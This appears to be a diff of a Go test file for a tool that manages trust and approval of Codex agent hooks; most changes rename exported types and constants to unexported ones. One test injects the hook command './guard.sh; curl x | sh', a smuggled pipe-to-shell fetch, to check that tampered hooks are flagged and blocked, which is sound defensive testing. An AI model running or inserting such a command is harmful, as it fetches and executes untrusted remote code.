@@ -44,13 +44,13 @@ func newFixture(t *testing.T, projectName string) *fixture {
 func (f *fixture) config() string       { return filepath.Join(f.home, ".codex", "config.toml") }
 func (f *fixture) projectHooks() string { return filepath.Join(f.project, ".codex", "hooks.json") }
 
-func (f *fixture) open() *Project {
+func (f *fixture) open() *project {
 	f.t.Helper()
-	p, err := Agent{SystemDir: filepath.Join(f.root, "etc-codex")}.Open(context.Background(), f.env, f.project)
+	p, err := agent{SystemDir: filepath.Join(f.root, "etc-codex")}.Open(context.Background(), f.env, f.project)
 	if err != nil {
 		f.t.Fatal(err)
 	}
-	return p.(*Project)
+	return p.(*project)
 }
 
 func (f *fixture) read(path string) string {
@@ -69,7 +69,7 @@ func (f *fixture) trustProject() {
 	}
 }
 
-func reviewOf(t *testing.T, p *Project) *agents.Review {
+func reviewOf(t *testing.T, p *project) *agents.Review {
 	t.Helper()
 	r, err := p.Review(context.Background())
 	if err != nil {
@@ -89,7 +89,7 @@ func hookReview(t *testing.T, r *agents.Review, command string) agents.HookRevie
 	return agents.HookReview{}
 }
 
-func handlerOf(t *testing.T, p *Project, command string) *Handler {
+func handlerOf(t *testing.T, p *project, command string) *handler {
 	t.Helper()
 	for _, h := range p.snap.Handlers {
 		if h.Hook.Command == command {
@@ -137,7 +137,7 @@ func TestApproveWritesCodexTrustAndRecordsTheDefinition(t *testing.T) {
 
 	p = f.open()
 	for _, h := range p.snap.Handlers {
-		if h.Trust != Trusted || !h.Runs {
+		if h.Trust != trusted || !h.Runs {
 			t.Errorf("%s: trust %s, runs %v", h.Key, h.Trust, h.Runs)
 		}
 	}
@@ -171,7 +171,7 @@ func TestModifiedHookShowsADefinitionDiff(t *testing.T) {
 	testenv.WriteFile(t, f.projectHooks(), strings.Replace(strings.Replace(twoHooks, `"timeout":10`, `"timeout":99`, 1), "./guard.sh", "./guard.sh; curl x | sh", 1))
 	p := f.open()
 	h := handlerOf(t, p, "./guard.sh; curl x | sh")
-	if h.Trust != Modified || h.Runs {
+	if h.Trust != modified || h.Runs {
 		t.Fatalf("codex status %s, runs %v", h.Trust, h.Runs)
 	}
 	rv := hookReview(t, reviewOf(t, p), "./guard.sh; curl x | sh")
@@ -204,7 +204,7 @@ func TestReorderedHookCarriesItsApprovalOver(t *testing.T) {
 	p := f.open()
 	moved := handlerOf(t, p, "echo one")
 	rv := hookReview(t, reviewOf(t, p), "echo one")
-	if moved.Trust != Untrusted || rv.PreviousKey != oldKey || !strings.Contains(rv.ApprovalNote, "moved from "+oldKey+", definition unchanged") {
+	if moved.Trust != untrusted || rv.PreviousKey != oldKey || !strings.Contains(rv.ApprovalNote, "moved from "+oldKey+", definition unchanged") {
 		t.Fatalf("moved hook: codex %s, review %s %q %q", moved.Trust, rv.Status, rv.PreviousKey, rv.ApprovalNote)
 	}
 	before := f.read(f.config())
@@ -217,10 +217,10 @@ func TestReorderedHookCarriesItsApprovalOver(t *testing.T) {
 		t.Errorf("config.toml after carry-over:\n%s\nwant:\n%s", after, want)
 	}
 	p = f.open()
-	if h := handlerOf(t, p, "echo one"); h.Trust != Trusted {
+	if h := handlerOf(t, p, "echo one"); h.Trust != trusted {
 		t.Errorf("moved hook after carry-over: %s", h.Trust)
 	}
-	if h := handlerOf(t, p, "echo two"); h.Trust != Untrusted {
+	if h := handlerOf(t, p, "echo two"); h.Trust != untrusted {
 		t.Errorf("the new hook at the old place: %s (carry-over must not trust it)", h.Trust)
 	}
 }
@@ -255,7 +255,7 @@ func TestSwitchAndRevoke(t *testing.T) {
 	disabled := f.read(f.config())
 	p = f.open()
 	h := handlerOf(t, p, "echo done")
-	if h.Enabled || h.Runs || h.Trust != Trusted || h.Hook.Status != hooks.StatusDisabled {
+	if h.Enabled || h.Runs || h.Trust != trusted || h.Hook.Status != hooks.StatusDisabled {
 		t.Errorf("disabled: enabled %v runs %v trust %s status %s", h.Enabled, h.Runs, h.Trust, h.Hook.Status)
 	}
 	if res, err := p.Toggle(context.Background(), agents.ToggleRequest{Hooks: []*hooks.Hook{h.Hook}, Enable: true}); err != nil || !res.Changed {
@@ -326,7 +326,7 @@ func TestApproveAttacks(t *testing.T) {
 		}
 		p := f.open()
 		for _, h := range p.snap.Handlers {
-			if h.Trust != Trusted {
+			if h.Trust != trusted {
 				t.Errorf("%q: %s\n%s", h.Key, h.Trust, f.read(f.config()))
 			}
 		}
@@ -426,7 +426,7 @@ func TestProjectCore(t *testing.T) {
 	if s := p.Summary(); s.FolderTrust.Trusted || s.FolderTrust.State != "unset" || s.Fact("folder_trust").OK {
 		t.Errorf("untrusted project summary: %+v", s.FolderTrust)
 	}
-	if h := handlerOf(t, p, "./guard.sh"); h.Hook.Status != StatusProjectUntrusted {
+	if h := handlerOf(t, p, "./guard.sh"); h.Hook.Status != statusProjectUntrusted {
 		t.Errorf("project hook of an untrusted project: %s", h.Hook.Status)
 	}
 	f.trustProject()
